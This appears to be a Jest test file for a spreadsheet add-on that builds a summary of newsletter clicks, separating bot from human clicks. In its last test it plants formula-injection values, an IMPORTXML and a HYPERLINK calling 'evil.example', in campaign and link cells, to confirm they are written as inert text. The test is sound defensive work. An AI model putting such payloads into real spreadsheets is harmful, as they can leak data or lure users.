import { detect, resolveSettings, SETTINGS_SPEC } from '../../src/core';
import { asPasted, bookWith, isDate, LISTMONK_CSV, readCsv, snapshot } from './addon';
import type { CellValue, FakeSheet } from './fakeApps';

const rows = readCsv(LISTMONK_CSV);

/** The rows of the summary sheet as a user reads them, trailing blanks cut. */
function readSheet(sheet: FakeSheet): CellValue[][] {
  return sheet.grid.map((row) => {
    const values = row.map((cell) => (isDate(cell?.value) ? cell.value.toISOString() : (cell?.value ?? '')));
    while (values.length && values[values.length - 1] === '') values.pop();
    return values;
  });
}

function rowStartingWith(table: CellValue[][], ...start: CellValue[]): CellValue[] {
  const found = table.find((row) => start.every((cell, i) => row[i] === cell));
  if (!found) throw new Error(`no row starting with ${start.join(' | ')}`);
  return found;
}

describe('Build clean summary', () => {
  test('writes raw vs human clicks, unique real people and the share removed per campaign and link', () => {
    const pasted = asPasted(rows);
    const { book, addon } = bookWith(pasted);
    addon.buildCleanSummary();
    expect(book.alerts).toEqual([]);
    const summary = book.sheet('Clean summary');
    expect(book.active).toBe(summary);
    const table = readSheet(summary);
    const core = detect(pasted, resolveSettings({ timeZone: book.timeZone })).summary;

    expect(table[0]).toEqual(['Clean summary of "Clicks", rows 2 to 19']);
    expect(table[1]).toEqual([`${core.totals.botClicks} of ${core.totals.rawClicks} clicks look like bots; ${core.totals.humanClickers} real people clicked.`]);
    expect(rowStartingWith(table, 'Campaign')).toEqual([
      'Campaign', 'Link', 'Raw clicks', 'Bot clicks', 'Human clicks', 'Unknown', 'Unique clickers', 'Unique human clickers', 'Share removed', 'Send time', 'Send time from',
    ]);
    const counts = (c: typeof core.totals) => [c.rawClicks, c.botClicks, c.humanClicks, c.unknownClicks, c.rawClickers, c.humanClickers, c.removedShare];
    expect(rowStartingWith(table, 'All campaigns').slice(2, 9)).toEqual(counts(core.totals));
    const [campaign] = core.campaigns;
    const campaignRow = rowStartingWith(table, 'Spring Newsletter 2026', 'All links');
    expect(campaignRow.slice(2, 9)).toEqual(counts(campaign));
    expect(campaignRow[9]).toBe(new Date(campaign.sendTime as number).toISOString());
    for (const link of campaign.links) {
      expect(rowStartingWith(table, 'Spring Newsletter 2026', link.link).slice(2, 9)).toEqual(counts(link));
    }
    // The sample's truth: of 7 clickers, 6 are real people; all 10 bot clicks are the scanner's.
    expect(campaignRow.slice(2, 8)).toEqual([18, 10, 8, 0, 7, 6]);
  });

  test('lists the rules and thresholds used, and the columns read', () => {
    const { book, addon } = bookWith(asPasted(rows));
    addon.saveSettings({ preset: 'strict', burstMaxClicks: 5 });
    addon.buildCleanSummary();
    const table = readSheet(book.sheet('Clean summary'));
    const settings = resolveSettings({ preset: 'strict', burstMaxClicks: 5 });
    expect(rowStartingWith(table, 'Preset')[1]).toBe('strict');
    expect(rowStartingWith(table, 'Time zone')[1]).toBe('Etc/UTC');
    for (const [name, spec] of Object.entries(SETTINGS_SPEC)) {
      const value = settings[name as keyof typeof SETTINGS_SPEC];
      expect(rowStartingWith(table, spec.label).slice(1)).toEqual([typeof value === 'boolean' ? (value ? 'on' : 'off') : String(value), spec.help]);
    }
    expect(rowStartingWith(table, 'Column: Click time')[1]).toBe('created_at');
    expect(rowStartingWith(table, 'Column: Recipient (e-mail address or contact id)')[1]).toBe('email');
  });

  test('charts clicks by minutes since send, bots vs humans, from the table beside it', () => {
    const pasted = asPasted(rows);
    const { book, addon } = bookWith(pasted);
    addon.buildCleanSummary();
    const summary = book.sheet('Clean summary');
    const table = readSheet(summary);
    const headerRow = table.findIndex((row) => row[0] === 'Minutes since send') + 1;
    const timeline = detect(pasted, resolveSettings({})).summary.timeline.filter((bucket) => bucket.minute < 180);
    expect(table.slice(headerRow, headerRow + timeline.length)).toEqual(timeline.map((b) => [b.minute, b.bot, b.human]));
    expect(summary.charts).toHaveLength(1);
    const [chart] = summary.charts;
    expect(chart.kind).toBe('column');
    expect(chart.options).toMatchObject({ stacked: true, numHeaders: 1, title: 'Clicks by minutes since send: bots vs humans' });
    expect(chart.ranges).toEqual([{ row: headerRow, column: 1, rows: timeline.length + 1, columns: 3 }]);
  });

  test('is replaced on a re-run, never duplicated', () => {
    const { book, sheet, addon } = bookWith(asPasted(rows));
    addon.buildCleanSummary();
    const first = snapshot(book);
    book.setActiveSheet(book.getSheetByName('Clicks') as GoogleAppsScript.Spreadsheet.Sheet);
    addon.buildCleanSummary();
    expect(book.sheets.map((s) => s.name)).toEqual(['Clicks', 'Clean summary']);
    expect(snapshot(book)).toEqual(first);
    expect(sheet.values()).toEqual(asPasted(rows));
  });

  test('writes text from the data as text: a formula-looking campaign or link never becomes a formula', () => {
    const campaign = rows[0].indexOf('campaign_name');
    const url = rows[0].indexOf('url');
    const hostile = rows.map((row, i) =>
      i === 0 ? row : row.map((cell, c) => (c === campaign ? (i < 12 ? '=IMPORTXML("https://evil.example/x","//a")' : '0012') : c === url && i === 15 ? '+HYPERLINK("https://evil.example")' : cell)),
    );
    const { book, addon } = bookWith(asPasted(hostile).map((row, i) => (i === 0 ? row : row.map((cell, c) => (c === campaign ? hostile[i][c] : cell)))));
    addon.buildCleanSummary();
    const summary = book.sheet('Clean summary');
    const cells = summary.grid.flat().filter(Boolean);
    expect(cells.filter((cell) => cell.formula !== '')).toEqual([]);
    const texts = cells.map((cell) => cell.value);
    expect(texts).toContain('=IMPORTXML("https://evil.example/x","//a")');
    expect(texts).toContain('+HYPERLINK("https://evil.example")');
    // A campaign id that looks like a number keeps its leading zeros.
    expect(texts).toContain('0012');
  });
});
